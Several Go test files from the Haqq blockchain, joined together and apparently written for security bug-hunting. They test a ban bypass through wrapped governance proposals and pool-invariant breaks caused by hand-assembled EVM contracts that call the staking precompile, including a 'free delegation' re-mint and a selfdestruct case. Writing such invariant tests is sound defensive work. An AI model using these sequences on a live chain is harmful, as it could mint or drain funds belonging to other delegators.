	require.Equal(t, int64(3), a.app.UpgradeKeeper.GetDoneHeight(qctx, v182.UpgradeName), "upgrade executed at height 3")
	c.exec(a, blk(4))
	rA := c.exec(a, blk(5))

	infoA := a.app.Info(abci.RequestInfo{})
	b := zzOpen(zzCloneDB(t, a.db))
	infoB := b.app.Info(abci.RequestInfo{})

	t.Logf("before the upgrade      : %+v", infoBefore)
	t.Logf("continuous node, h=5    : %+v", infoA)
	t.Logf("restarted node,  h=5    : %+v", infoB)

	require.Equal(t, infoA.LastBlockHeight, infoB.LastBlockHeight)
	require.Equal(t, infoA.LastBlockAppHash, infoB.LastBlockAppHash)
	require.Equal(t, rA.appHash, infoB.LastBlockAppHash)
	require.Equal(t, infoA.AppVersion, infoB.AppVersion, "Info().AppVersion (protocol version) of the continuous vs the restarted node")
	require.Equal(t, infoA, infoB, "complete Info() answer of the continuous vs the restarted node")
}
