package app_test

import (
	"testing"
	"time"

	sdkmath "cosmossdk.io/math"
	sdk "github.com/cosmos/cosmos-sdk/types"
	"github.com/cosmos/cosmos-sdk/types/tx/signing"
	authtypes "github.com/cosmos/cosmos-sdk/x/auth/types"
	"github.com/cosmos/cosmos-sdk/x/authz"
	distrtypes "github.com/cosmos/cosmos-sdk/x/distribution/types"
	govtypes "github.com/cosmos/cosmos-sdk/x/gov/types"
	govv1 "github.com/cosmos/cosmos-sdk/x/gov/types/v1"
	govv1beta1 "github.com/cosmos/cosmos-sdk/x/gov/types/v1beta1"
	stakingtypes "github.com/cosmos/cosmos-sdk/x/staking/types"
	"github.com/stretchr/testify/require"

	"github.com/haqq-network/haqq/app"
	"github.com/haqq-network/haqq/crypto/ethsecp256k1"
	"github.com/haqq-network/haqq/testutil"
	"github.com/haqq-network/haqq/utils"
	feemarkettypes "github.com/haqq-network/haqq/x/feemarket/types"
)

// Property (C06, anchor app/haqq_ante.go): a message type that the application's
// ante handler bars ("community fund spend coming later", error haqq-ante/6001)
// cannot get past the ante handler by being carried in another wrapper.
//
// The test drives the REAL application ante handler (BaseApp.DeliverTx):
//
//	control : a top-level legacy MsgSubmitProposal{CommunityPoolSpendProposal} is refused
//	          with haqq-ante/6001 -> the ban is in force;
//	trigger : the same spend expressed as gov v1 MsgSubmitProposal{messages:[MsgCommunityPoolSpend]}
//	          must be refused as well, no proposal may be stored, and - after a YES vote and the
//	          voting period - the community pool must not have paid the recipient.
func TestZZHuntCommunityPoolSpendBanBypass(t *testing.T) {
	chainID := utils.TestEdge2ChainID + "-3"
	haqq, _ := app.Setup(false, feemarkettypes.DefaultGenesisState(), chainID)

	privCons, err := ethsecp256k1.GenerateKey()
	require.NoError(t, err)
	consAddr := sdk.ConsAddress(privCons.PubKey().Address())

	header := testutil.NewHeader(1, time.Now().UTC(), chainID, consAddr, nil, nil)
	ctx := haqq.BaseApp.NewContext(false, header)

	priv, err := ethsecp256k1.GenerateKey()
	require.NoError(t, err)
	addr := sdk.AccAddress(priv.PubKey().Address().Bytes())

	recipientPriv, err := ethsecp256k1.GenerateKey()
	require.NoError(t, err)
	recipient := sdk.AccAddress(recipientPriv.PubKey().Address().Bytes())

	one := sdkmath.NewIntWithDecimal(1, 18)
	coin := func(n int64) sdk.Coin { return sdk.NewCoin(utils.BaseDenom, one.MulRaw(n)) }

	require.NoError(t, testutil.FundAccount(ctx, haqq.BankKeeper, addr, sdk.NewCoins(coin(1000))))

	ctx, err = testutil.CommitAndCreateNewCtx(ctx, haqq, time.Second, nil)
	require.NoError(t, err)

	// the proposer becomes (by far) the largest delegator so that its single vote decides
	validators := haqq.StakingKeeper.GetBondedValidatorsByPower(ctx)
	require.NotEmpty(t, validators)
	_, err = testutil.Delegate(ctx, haqq, priv, coin(100), validators[0])
	require.NoError(t, err)

	// put money in the community pool with an ordinary transaction
	_, err = testutil.DeliverTx(ctx, haqq, priv, nil, signing.SignMode_SIGN_MODE_DIRECT,
		distrtypes.NewMsgFundCommunityPool(sdk.NewCoins(coin(50)), addr))
	require.NoError(t, err)

	ctx, err = testutil.CommitAndCreateNewCtx(ctx, haqq, time.Second, nil)
	require.NoError(t, err)

	poolBefore := haqq.DistrKeeper.GetFeePoolCommunityCoins(ctx).AmountOf(utils.BaseDenom).TruncateInt()
	require.True(t, poolBefore.GTE(one.MulRaw(50)), "community pool funded: %s", poolBefore)

	spend := sdk.NewCoins(coin(30))
	govParams := haqq.GovKeeper.GetParams(ctx)
	deposit := sdk.NewCoins(govParams.MinDeposit...)
	for _, c := range deposit {
		if c.Denom != utils.BaseDenom {
			require.NoError(t, testutil.FundAccount(ctx, haqq.BankKeeper, addr, sdk.NewCoins(c)))
		}
	}
	govAuthority := authtypes.NewModuleAddress(govtypes.ModuleName).String()

	// ---------------------------------------------------------------- control
	legacyContent := &distrtypes.CommunityPoolSpendProposal{Title: "spend", Description: "spend the pool", Recipient: recipient.String(), Amount: spend}
	legacyMsg, err := govv1beta1.NewMsgSubmitProposal(legacyContent, deposit, addr)
	require.NoError(t, err)
	_, err = testutil.DeliverTx(ctx, haqq, priv, nil, signing.SignMode_SIGN_MODE_DIRECT, legacyMsg)
	require.Error(t, err, "control: the plain legacy community-pool-spend proposal must be barred")
	t.Logf("control, top-level legacy proposal through DeliverTx: %v", err)

	// control on the decorator itself (same construction as app.setAnteHandler): it answers
	// haqq-ante/6001 for the legacy content ...
	nextCalled := false
	decorated := app.NewHaqqAnteHandlerDecorator(*haqq.StakingKeeper.Keeper, func(c sdk.Context, _ sdk.Tx, _ bool) (sdk.Context, error) {
		nextCalled = true
		return c, nil
	})
	b := haqq.GetTxConfig().NewTxBuilder()
	require.NoError(t, b.SetMsgs(legacyMsg))
	_, err = decorated(ctx, b.GetTx(), false)
	require.ErrorIs(t, err, app.ErrCommunitySpendingComingLater, "control: decorator bars the legacy spend proposal")
	require.False(t, nextCalled)

	// informational: the same legacy message wrapped in a self-addressed MsgExec is not
	// seen by the decorator at all (it only dies later in the gov keeper, because no
	// legacy route for distribution is registered)
	execMsg := authz.NewMsgExec(addr, []sdk.Msg{legacyMsg})
	_, err = testutil.DeliverTx(ctx, haqq, priv, nil, signing.SignMode_SIGN_MODE_DIRECT, &execMsg)
	t.Logf("info, MsgExec{legacy proposal}: %v", err)

	// ---------------------------------------------------------------- trigger
	spendMsg := &distrtypes.MsgCommunityPoolSpend{
		Authority: govAuthority,
		Recipient: recipient.String(),
		Amount:    spend,
	}
	v1Msg, err := govv1.NewMsgSubmitProposal([]sdk.Msg{spendMsg}, deposit, addr.String(), "", "spend", "spend the pool")
	require.NoError(t, err)

	proposalsBefore := len(haqq.GovKeeper.GetProposals(ctx))
	res, err := testutil.DeliverTx(ctx, haqq, priv, nil, signing.SignMode_SIGN_MODE_DIRECT, v1Msg)
	t.Logf("trigger, gov v1 proposal carrying MsgCommunityPoolSpend: code=%d err=%v", res.Code, err)

	proposals := haqq.GovKeeper.GetProposals(ctx)
	if err == nil {
		t.Errorf("VIOLATION: transaction carrying a community-pool-spend proposal passed the ante handler and was executed (expected rejection %q)",
			app.ErrCommunitySpendingComingLater.Error())
	}
	if len(proposals) != proposalsBefore {
		t.Errorf("VIOLATION: community-pool-spend proposals stored: expected %d, actual %d", proposalsBefore, len(proposals))
	}
	if len(proposals) == proposalsBefore {
		return
	}
	proposal := proposals[len(proposals)-1]

	// let governance run: one YES vote from the dominant delegator, then the voting period elapses
	_, err = testutil.DeliverTx(ctx, haqq, priv, nil, signing.SignMode_SIGN_MODE_DIRECT,
		govv1.NewMsgVote(addr, proposal.Id, govv1.OptionYes, ""))
	require.NoError(t, err)

	ctx, err = testutil.CommitAndCreateNewCtx(ctx, haqq, *govParams.VotingPeriod+time.Hour, nil)
	require.NoError(t, err)
	ctx, err = testutil.CommitAndCreateNewCtx(ctx, haqq, time.Second, nil)
	require.NoError(t, err)

	final, found := haqq.GovKeeper.GetProposal(ctx, proposal.Id)
	require.True(t, found)
	t.Logf("proposal %d final status: %s", final.Id, final.Status)

	recipientBal := haqq.BankKeeper.GetBalance(ctx, recipient, utils.BaseDenom).Amount
	poolAfter := haqq.DistrKeeper.GetFeePoolCommunityCoins(ctx).AmountOf(utils.BaseDenom).TruncateInt()
	t.Logf("community pool before=%s after=%s ; recipient balance=%s", poolBefore, poolAfter, recipientBal)

	require.Truef(t, recipientBal.IsZero(),
		"VIOLATION: community pool paid out although community fund spending is barred: recipient balance expected 0, actual %s",
		recipientBal)
	_ = stakingtypes.ModuleName
}
