package staking_test

import (
	"math/big"
	"time"

	"cosmossdk.io/math"
	authtypes "github.com/cosmos/cosmos-sdk/x/auth/types"
	stakingtypes "github.com/cosmos/cosmos-sdk/x/staking/types"
	"github.com/ethereum/go-ethereum/common"
	ethtypes "github.com/ethereum/go-ethereum/core/types"
	"github.com/ethereum/go-ethereum/crypto"

	"github.com/haqq-network/haqq/precompiles/authorization"
	"github.com/haqq-network/haqq/precompiles/staking"
	haqqtestutil "github.com/haqq-network/haqq/testutil"
	evmtypes "github.com/haqq-network/haqq/x/evm/types"
)

// zzHuntPoolToucherRuntime is a tiny hand-assembled contract (no solc in the sandbox).
// With empty calldata it just accepts the attached value. Otherwise the calldata layout is
//
//	[ 0:32]  address A   (an arbitrary account, here a staking pool module account)
//	[32:64]  address P   (the contract to call, here the staking precompile)
//	[64:  ]  calldata forwarded to P
//
// and it does, in this order:
//
//  1. BALANCE(A)                             -- just looks at A's balance
//
//  2. CALL(P, value 0, calldata[64:])        -- reverts if the call fails
//
//  3. CALL(A, value = address(this).balance) -- sends its own (1 wei) balance to A; reverts if it fails
//
//     00 CALLDATASIZE; PUSH1 0x05; JUMPI; STOP; JUMPDEST
//     06 PUSH1 0; CALLDATALOAD; DUP1; BALANCE; POP
//     0c PUSH1 0x40; CALLDATASIZE; SUB; DUP1; PUSH1 0x40; PUSH1 0; CALLDATACOPY
//     16 PUSH1 0; PUSH1 0; DUP3; PUSH1 0; PUSH1 0; PUSH1 0x20; CALLDATALOAD; GAS; CALL
//     24 ISZERO; PUSH1 0x3b; JUMPI; POP
//     29 PUSH1 0; PUSH1 0; PUSH1 0; PUSH1 0; SELFBALANCE; DUP6; GAS; CALL
//     35 ISZERO; PUSH1 0x3b; JUMPI; STOP; STOP
//     3b JUMPDEST; PUSH1 0; PUSH1 0; REVERT
var zzHuntPoolToucherRuntime = common.FromHex(
	"3660055700" + "5b" +
		"600035803150" +
		"60403603806040600037" +
		"6000600082600060006020355af1" +
		"15603b5750" +
		"600060006000600047855af1" +
		"15603b570000" +
		"5b60006000fd",
)

// zzHuntInitCode returns creation code that deploys the given runtime code.
func zzHuntInitCode(runtime []byte) []byte {
	// PUSH1 len; DUP1; PUSH1 0x0b; PUSH1 0; CODECOPY; PUSH1 0; RETURN
	init := []byte{0x60, byte(len(runtime)), 0x80, 0x60, 0x0b, 0x60, 0x00, 0x39, 0x60, 0x00, 0xf3}
	return append(init, runtime...)
}

// zzHuntBrokenInvariants runs every invariant registered in the crisis module
// (the ones `CrisisKeeper.AssertInvariants` runs) and returns the messages of the broken ones.
func (s *PrecompileTestSuite) zzHuntBrokenInvariants() []string {
	var broken []string
	for _, ir := range s.app.CrisisKeeper.Routes() {
		if msg, stop := ir.Invar(s.ctx); stop {
			broken = append(broken, msg)
		}
	}
	return broken
}

// zzHuntSendEthTx delivers an ordinary signed Ethereum transaction from the suite's account and requires it to succeed.
func (s *PrecompileTestSuite) zzHuntSendEthTx(to *common.Address, value *big.Int, input []byte) {
	s.Require().NoError(s.zzHuntTrySendEthTx(to, value, input), "the transaction must be an ordinary successful EVM transaction")
}

// zzHuntTrySendEthTx delivers an ordinary signed Ethereum transaction from the suite's account
// and reports whether it was executed successfully.
func (s *PrecompileTestSuite) zzHuntTrySendEthTx(to *common.Address, value *big.Int, input []byte) error {
	msg := evmtypes.NewTx(&evmtypes.EvmTxArgs{
		ChainID:   s.app.EvmKeeper.ChainID(),
		Nonce:     s.app.EvmKeeper.GetNonce(s.ctx, s.address),
		To:        to,
		Amount:    value,
		GasLimit:  1_000_000,
		GasFeeCap: s.app.FeeMarketKeeper.GetBaseFee(s.ctx),
		GasTipCap: big.NewInt(1),
		Input:     input,
		Accesses:  &ethtypes.AccessList{},
	})
	msg.From = s.address.String()

	_, err := haqqtestutil.DeliverEthTx(s.app, s.privKey, msg)
	return err
}

func (s *PrecompileTestSuite) zzHuntNextBlock() {
	var err error
	s.ctx, err = haqqtestutil.CommitAndCreateNewCtx(s.ctx, s.app, time.Second, nil)
	s.Require().NoError(err)
}

// zzHuntSetup deploys the helper contract, gives it 1 wei and lets the suite's account
// authorise it for the given staking message. All through ordinary transactions.
func (s *PrecompileTestSuite) zzHuntSetup(msgType string, amount *big.Int) common.Address {
	s.SetupTest()
	s.zzHuntNextBlock()
	s.Require().Empty(s.zzHuntBrokenInvariants(), "invariants must hold at the start")

	contractAddr, err := s.DeployContract(evmtypes.CompiledContract{Bin: zzHuntInitCode(zzHuntPoolToucherRuntime)})
	s.Require().NoError(err)
	s.zzHuntNextBlock()
	s.Require().Equal(zzHuntPoolToucherRuntime, s.app.EvmKeeper.GetCode(s.ctx, crypto.Keccak256Hash(zzHuntPoolToucherRuntime)))

	// 1 wei for the contract
	s.zzHuntSendEthTx(&contractAddr, big.NewInt(1), nil)
	s.zzHuntNextBlock()
	s.Require().Equal("1", s.app.BankKeeper.GetBalance(s.ctx, contractAddr.Bytes(), s.bondDenom).Amount.String())

	// the signer authorises the contract to act for it in the staking precompile
	approveCall, err := s.precompile.ABI.Pack(authorization.ApproveMethod, contractAddr, amount, []string{msgType})
	s.Require().NoError(err)
	precompileAddr := s.precompile.Address()
	s.zzHuntSendEthTx(&precompileAddr, nil, approveCall)
	s.zzHuntNextBlock()

	s.Require().Empty(s.zzHuntBrokenInvariants(), "invariants must hold before the transaction")
	return contractAddr
}

func (s *PrecompileTestSuite) zzHuntValidatorTokens(status stakingtypes.BondStatus) math.Int {
	total := math.ZeroInt()
	for _, v := range s.app.StakingKeeper.GetAllValidators(s.ctx) {
		if v.GetStatus() == status {
			total = total.Add(v.Tokens)
		}
	}
	return total
}

func (s *PrecompileTestSuite) zzHuntUnbondingTokens() math.Int {
	total := math.ZeroInt()
	s.app.StakingKeeper.IterateUnbondingDelegations(s.ctx, func(_ int64, ubd stakingtypes.UnbondingDelegation) bool {
		for _, e := range ubd.Entries {
			total = total.Add(e.Balance)
		}
		return false
	})
	return total
}

// Property C15: after every block, whatever transactions it contained, the registered
// accounting invariants hold - in particular the bonded pool holds exactly the tokens of
// the bonded validators.
//
// History: one ordinary, successful EVM transaction (value 0). The signer calls a contract that
// looks at the bonded pool's balance, delegates 1 ISLM of the signer's funds through the staking
// precompile (the signer approved that), and sends its own 1 wei to the bonded pool address.
func (s *PrecompileTestSuite) TestZZHuntBondedPoolInvariantAfterEvmTx() {
	delegateAmt := big.NewInt(1e18)
	contractAddr := s.zzHuntSetup(staking.DelegateMsg, delegateAmt)

	bondedPool := authtypes.NewModuleAddress(stakingtypes.BondedPoolName)
	poolBefore := s.app.BankKeeper.GetBalance(s.ctx, bondedPool, s.bondDenom).Amount
	bondedBefore := s.zzHuntValidatorTokens(stakingtypes.Bonded)
	supplyBefore := s.app.BankKeeper.GetSupply(s.ctx, s.bondDenom).Amount
	s.Require().Equal(bondedBefore.String(), poolBefore.String(), "bonded pool == bonded validator tokens before")

	// calldata = pool address | precompile address | delegate(signer, validator, 1 ISLM)
	delegateCall, err := s.precompile.ABI.Pack(staking.DelegateMethod, s.address, s.validators[0].OperatorAddress, delegateAmt)
	s.Require().NoError(err)
	input := append(common.LeftPadBytes(bondedPool.Bytes(), 32), common.LeftPadBytes(s.precompile.Address().Bytes(), 32)...)
	input = append(input, delegateCall...)

	// the chain may accept or reject this transaction - either way the invariants must hold afterwards
	txErr := s.zzHuntTrySendEthTx(&contractAddr, nil, input)
	s.T().Logf("transaction result: err=%v", txErr)

	poolAfter := s.app.BankKeeper.GetBalance(s.ctx, bondedPool, s.bondDenom).Amount
	bondedAfter := s.zzHuntValidatorTokens(stakingtypes.Bonded)
	supplyAfter := s.app.BankKeeper.GetSupply(s.ctx, s.bondDenom).Amount
	s.T().Logf("bonded validator tokens: before %s after %s (delta %s)", bondedBefore, bondedAfter, bondedAfter.Sub(bondedBefore))
	s.T().Logf("bonded pool balance    : before %s after %s (delta %s)", poolBefore, poolAfter, poolAfter.Sub(poolBefore))
	s.T().Logf("%s supply           : before %s after %s (delta %s)", s.bondDenom, supplyBefore, supplyAfter, supplyAfter.Sub(supplyBefore))

	if txErr == nil {
		s.Require().Equal(bondedBefore.Add(math.NewIntFromBigInt(delegateAmt)).String(), bondedAfter.String(), "the delegation happened: validator tokens grew by the delegated amount")
	} else {
		s.Require().Equal(bondedBefore.String(), bondedAfter.String(), "a rejected transaction leaves no trace")
	}

	// THE PROPERTY
	s.Assert().Equal(bondedAfter.String(), poolAfter.String(),
		"bonded pool balance must equal the tokens of the bonded validators")
	s.Assert().Empty(s.zzHuntBrokenInvariants(), "registered crisis invariants must hold at the end of the block")
	// ... and the chain must be able to go on (the crisis module's EndBlocker asserts the invariants)
	s.Assert().NotPanics(func() { s.app.CrisisKeeper.AssertInvariants(s.ctx) })
}

// Same property for the not-bonded pool: it must hold exactly the tokens of the unbonding
// delegations (plus those of not-bonded validators, none here).
//
// History: one ordinary, successful EVM transaction (value 0). The signer calls the contract, which
// looks at the not-bonded pool's balance, undelegates 0.5 ISLM of the signer's genesis delegation
// through the staking precompile (approved), and sends its own 1 wei to the not-bonded pool address.
func (s *PrecompileTestSuite) TestZZHuntNotBondedPoolInvariantAfterEvmTx() {
	undelegateAmt := big.NewInt(5e17)
	contractAddr := s.zzHuntSetup(staking.UndelegateMsg, undelegateAmt)

	notBondedPool := authtypes.NewModuleAddress(stakingtypes.NotBondedPoolName)
	poolBefore := s.app.BankKeeper.GetBalance(s.ctx, notBondedPool, s.bondDenom).Amount
	s.Require().Equal("0", poolBefore.String())
	s.Require().Equal("0", s.zzHuntUnbondingTokens().String())

	undelegateCall, err := s.precompile.ABI.Pack(staking.UndelegateMethod, s.address, s.validators[0].OperatorAddress, undelegateAmt)
	s.Require().NoError(err)
	input := append(common.LeftPadBytes(notBondedPool.Bytes(), 32), common.LeftPadBytes(s.precompile.Address().Bytes(), 32)...)
	input = append(input, undelegateCall...)

	// the chain may accept or reject this transaction - either way the invariants must hold afterwards
	txErr := s.zzHuntTrySendEthTx(&contractAddr, nil, input)
	s.T().Logf("transaction result: err=%v", txErr)

	poolAfter := s.app.BankKeeper.GetBalance(s.ctx, notBondedPool, s.bondDenom).Amount
	unbonding := s.zzHuntUnbondingTokens()
	s.T().Logf("unbonding delegation entries: %s", unbonding)
	s.T().Logf("not-bonded pool balance     : %s", poolAfter)
	if txErr == nil {
		s.Require().Equal(math.NewIntFromBigInt(undelegateAmt).String(), unbonding.String(), "the undelegation happened")
	} else {
		s.Require().Equal("0", unbonding.String(), "a rejected transaction leaves no trace")
	}

	// THE PROPERTY
	s.Assert().Equal(unbonding.Add(s.zzHuntValidatorTokens(stakingtypes.Unbonding)).Add(s.zzHuntValidatorTokens(stakingtypes.Unbonded)).String(), poolAfter.String(),
		"not-bonded pool balance must equal the unbonding delegations plus the tokens of not-bonded validators")
	s.Assert().Empty(s.zzHuntBrokenInvariants(), "registered crisis invariants must hold at the end of the block")
	s.Assert().NotPanics(func() { s.app.CrisisKeeper.AssertInvariants(s.ctx) })
}

// Escalation of the bonded-pool case: if the same transaction also carries 1 wei of value, the signer's own
// state object is dirty and stale as well, so the final commit re-mints the delegated coins to the signer.
// The signer then owns a 1 ISLM delegation that cost nothing, while the bonded pool does not hold the coins
// that back it (they would be paid out of the other delegators' coins on undelegation).
func (s *PrecompileTestSuite) TestZZHuntBondedPoolInvariantFreeDelegation() {
	delegateAmt := big.NewInt(1e18)
	contractAddr := s.zzHuntSetup(staking.DelegateMsg, delegateAmt)

	bondedPool := authtypes.NewModuleAddress(stakingtypes.BondedPoolName)
	poolBefore := s.app.BankKeeper.GetBalance(s.ctx, bondedPool, s.bondDenom).Amount
	bondedBefore := s.zzHuntValidatorTokens(stakingtypes.Bonded)
	signerBefore := s.app.BankKeeper.GetBalance(s.ctx, s.address.Bytes(), s.bondDenom).Amount

	delegateCall, err := s.precompile.ABI.Pack(staking.DelegateMethod, s.address, s.validators[0].OperatorAddress, delegateAmt)
	s.Require().NoError(err)
	input := append(common.LeftPadBytes(bondedPool.Bytes(), 32), common.LeftPadBytes(s.precompile.Address().Bytes(), 32)...)
	input = append(input, delegateCall...)

	txErr := s.zzHuntTrySendEthTx(&contractAddr, big.NewInt(1), input)
	s.T().Logf("transaction result: err=%v", txErr)

	poolAfter := s.app.BankKeeper.GetBalance(s.ctx, bondedPool, s.bondDenom).Amount
	bondedAfter := s.zzHuntValidatorTokens(stakingtypes.Bonded)
	signerAfter := s.app.BankKeeper.GetBalance(s.ctx, s.address.Bytes(), s.bondDenom).Amount
	s.T().Logf("bonded validator tokens: before %s after %s (delta %s)", bondedBefore, bondedAfter, bondedAfter.Sub(bondedBefore))
	s.T().Logf("bonded pool balance    : before %s after %s (delta %s)", poolBefore, poolAfter, poolAfter.Sub(poolBefore))
	s.T().Logf("signer balance         : before %s after %s (delta %s, includes the gas fee)", signerBefore, signerAfter, signerAfter.Sub(signerBefore))

	if txErr == nil {
		s.Assert().True(signerBefore.Sub(signerAfter).GTE(math.NewIntFromBigInt(delegateAmt)), "delegating 1 ISLM must cost the delegator 1 ISLM")
	}
	s.Assert().Equal(bondedAfter.String(), poolAfter.String(), "bonded pool balance must equal the tokens of the bonded validators")
	s.Assert().Empty(s.zzHuntBrokenInvariants(), "registered crisis invariants must hold at the end of the block")
}
