package staking_test

import (
	"encoding/hex"
	"math/big"
	"time"

	"cosmossdk.io/math"
	sdk "github.com/cosmos/cosmos-sdk/types"
	authtypes "github.com/cosmos/cosmos-sdk/x/auth/types"
	bankkeeper "github.com/cosmos/cosmos-sdk/x/bank/keeper"
	sdkstakingkeeper "github.com/cosmos/cosmos-sdk/x/staking/keeper"
	stakingtypes "github.com/cosmos/cosmos-sdk/x/staking/types"
	"github.com/ethereum/go-ethereum/accounts/abi"
	"github.com/ethereum/go-ethereum/common"

	"github.com/haqq-network/haqq/precompiles/authorization"
	"github.com/haqq-network/haqq/precompiles/staking"
	"github.com/haqq-network/haqq/precompiles/testutil/contracts"
	haqqtestutil "github.com/haqq-network/haqq/testutil"
	evmtypes "github.com/haqq-network/haqq/x/evm/types"
)

// zzHuntRuntime is a 38 byte contract:
//
//	calldata empty  -> SELFDESTRUCT(tx.origin)
//	calldata given  -> CALL(staking precompile 0x0800, value 0, calldata), revert iff the call failed
//
//	00 CALLDATASIZE  01 PUSH1 06  03 JUMPI  04 ORIGIN  05 SELFDESTRUCT
//	06 JUMPDEST  07 CALLDATASIZE  08 PUSH1 0  0a PUSH1 0  0c CALLDATACOPY
//	0d PUSH1 0  0f PUSH1 0  11 CALLDATASIZE  12 PUSH1 0  14 PUSH1 0  16 PUSH2 0800  19 GAS  1a CALL
//	1b ISZERO  1c PUSH1 20  1e JUMPI  1f STOP  20 JUMPDEST  21 PUSH1 0  23 PUSH1 0  25 REVERT
const zzHuntRuntime = "3660065732ff5b3660006000376000600036600060006108005af115602057005b60006000fd"

// zzHuntInit returns the runtime above: PUSH1 len, DUP1, PUSH1 0b, PUSH1 0, CODECOPY, PUSH1 0, RETURN
const zzHuntInit = "602680600b6000396000f3"

// sumOfAllBalances is the left hand side of the bank "total supply" invariant.
func (s *PrecompileTestSuite) zzSumOfAllBalances(denom string) math.Int {
	sum := math.ZeroInt()
	s.app.BankKeeper.IterateAllBalances(s.ctx, func(_ sdk.AccAddress, c sdk.Coin) bool {
		if c.Denom == denom {
			sum = sum.Add(c.Amount)
		}
		return false
	})
	return sum
}

// notBondedRecords is the right hand side of the staking "module accounts" invariant for the not-bonded pool:
// the tokens of the validators that are not bonded plus the balance of every unbonding delegation entry.
func (s *PrecompileTestSuite) zzNotBondedRecords() math.Int {
	sum := math.ZeroInt()
	s.app.StakingKeeper.IterateValidators(s.ctx, func(_ int64, v stakingtypes.ValidatorI) bool {
		if v.GetStatus() != stakingtypes.Bonded {
			sum = sum.Add(v.GetTokens())
		}
		return false
	})
	s.app.StakingKeeper.IterateUnbondingDelegations(s.ctx, func(_ int64, ubd stakingtypes.UnbondingDelegation) bool {
		for _, e := range ubd.Entries {
			sum = sum.Add(e.Balance)
		}
		return false
	})
	return sum
}

func (s *PrecompileTestSuite) zzCommit(d time.Duration) {
	var err error
	s.ctx, err = haqqtestutil.CommitAndCreateNewCtx(s.ctx, s.app, d, nil)
	s.Require().NoError(err)
}

// A contract delegates its own coins through the staking precompile, undelegates them and destroys itself.
// Self-destruction removes the contract's auth account (x/evm DeleteAccount), while the unbonding delegation
// stays behind. When the unbonding matures, the staking end blocker debits the not-bonded pool, then fails to
// find the delegator account and gives up - in the end blocker nothing rolls the debit back.
func (s *PrecompileTestSuite) TestZZHuntSelfdestructedDelegatorBreaksInvariants() {
	denom := s.bondDenom
	amt := big.NewInt(1e18)
	val := s.validators[0].OperatorAddress

	bin, err := hex.DecodeString(zzHuntInit + zzHuntRuntime)
	s.Require().NoError(err)

	d, err := s.DeployContract(evmtypes.CompiledContract{ABI: abi.ABI{}, Bin: bin})
	s.Require().NoError(err)
	s.zzCommit(time.Second)
	s.Require().Equal(zzHuntRuntime, hex.EncodeToString(s.app.EvmKeeper.GetCode(s.ctx, common.BytesToHash(s.app.EvmKeeper.GetAccountWithoutBalance(s.ctx, d).CodeHash))), "contract deployed")

	call := func(method string, value *big.Int, args ...interface{}) {
		a := contracts.CallArgs{
			ContractAddr: d,
			ContractABI:  s.precompile.ABI,
			PrivKey:      s.privKey,
			MethodName:   method,
			Args:         args,
			Amount:       value,
			GasLimit:     500_000,
		}
		if method == "" {
			a.ContractABI = abi.ABI{} // empty calldata
		}
		_, ethRes, err := contracts.Call(s.ctx, s.app, a)
		s.Require().NoError(err, method)
		s.Require().Empty(ethRes.VmError, method)
		s.zzCommit(time.Second)
	}

	// the signer lets the contract use the precompile (the precompile asks for a grant of the tx origin)
	call(authorization.ApproveMethod, nil, d, abi.MaxUint256, []string{staking.DelegateMsg, staking.UndelegateMsg})
	// the contract receives 1 ISLM and delegates it: the contract is the delegator
	call(staking.DelegateMethod, amt, d, val, amt)
	del, found := s.app.StakingKeeper.GetDelegation(s.ctx, d.Bytes(), s.validators[0].GetOperator())
	s.Require().True(found, "the contract is a delegator")
	valNow, _ := s.app.StakingKeeper.GetValidator(s.ctx, s.validators[0].GetOperator())
	s.Require().Equal(amt.String(), valNow.TokensFromShares(del.Shares).TruncateInt().String(), "the contract's delegation is worth 1 ISLM")
	// ... and undelegates it again
	call(staking.UndelegateMethod, nil, d, val, amt)
	ubd, found := s.app.StakingKeeper.GetUnbondingDelegation(s.ctx, d.Bytes(), s.validators[0].GetOperator())
	s.Require().True(found, "the contract has an unbonding delegation")
	s.Require().Len(ubd.Entries, 1)
	// ... and destroys itself (a chain that refuses this is fine as well: the property is about what follows)
	_, _, err = contracts.Call(s.ctx, s.app, contracts.CallArgs{ContractAddr: d, ContractABI: abi.ABI{}, PrivKey: s.privKey, GasLimit: 500_000})
	s.zzCommit(time.Second)
	s.T().Logf("selfdestruct: err=%v, contract account still exists: %v", err, s.app.AccountKeeper.GetAccount(s.ctx, d.Bytes()) != nil)

	notBondedPool := authtypes.NewModuleAddress(stakingtypes.NotBondedPoolName)

	// so far every invariant holds
	supplyBefore := s.app.BankKeeper.GetSupply(s.ctx, denom).Amount
	s.Require().Equal(supplyBefore.String(), s.zzSumOfAllBalances(denom).String(), "before: sum of balances == supply")
	s.Require().Equal(amt.String(), s.app.BankKeeper.GetBalance(s.ctx, notBondedPool, denom).Amount.String())
	s.Require().Equal(amt.String(), s.zzNotBondedRecords().String())
	s.Require().NotPanics(func() { s.app.CrisisKeeper.AssertInvariants(s.ctx) }, "before: all registered invariants hold")

	// the unbonding period passes; the block after it runs the staking end blocker at a time past the completion time
	unbonding := s.app.StakingKeeper.UnbondingTime(s.ctx)
	s.zzCommit(unbonding + time.Hour)
	endBlockerPanicked := false
	func() {
		defer func() {
			if r := recover(); r != nil {
				endBlockerPanicked = true
			}
		}()
		s.zzCommit(time.Second)
	}()
	s.Require().False(endBlockerPanicked, "committing the block after the unbonding period must not panic")

	// THE PROPERTY: after every block the registered invariants hold
	supply := s.app.BankKeeper.GetSupply(s.ctx, denom).Amount
	balances := s.zzSumOfAllBalances(denom)
	pool := s.app.BankKeeper.GetBalance(s.ctx, notBondedPool, denom).Amount
	records := s.zzNotBondedRecords()
	s.T().Logf("supply %s, sum of balances %s (difference %s)", supply, balances, supply.Sub(balances))
	s.T().Logf("not-bonded pool %s, unbonding records %s", pool, records)
	s.T().Logf("contract balance %s, signer balance %s",
		s.app.BankKeeper.GetBalance(s.ctx, d.Bytes(), denom).Amount, s.app.BankKeeper.GetBalance(s.ctx, s.address.Bytes(), denom).Amount)

	msg, broken := bankkeeper.TotalSupply(s.app.BankKeeper)(s.ctx)
	s.Assert().False(broken, "bank total-supply invariant: %s", msg)
	msg, broken = sdkstakingkeeper.ModuleAccountInvariants(s.app.StakingKeeper.Keeper)(s.ctx)
	s.Assert().False(broken, "staking module-accounts invariant: %s", msg)
	s.Assert().Equal(supply.String(), balances.String(), "sum of all balances == supply")
	s.Assert().Equal(records.String(), pool.String(), "not-bonded pool == unbonding records")
	s.Assert().NotPanics(func() { s.app.CrisisKeeper.AssertInvariants(s.ctx) }, "crisis: all registered invariants hold")
}

