package staking_test

import (
	"fmt"
	"math/big"
	"time"

	"cosmossdk.io/math"
	sdk "github.com/cosmos/cosmos-sdk/types"
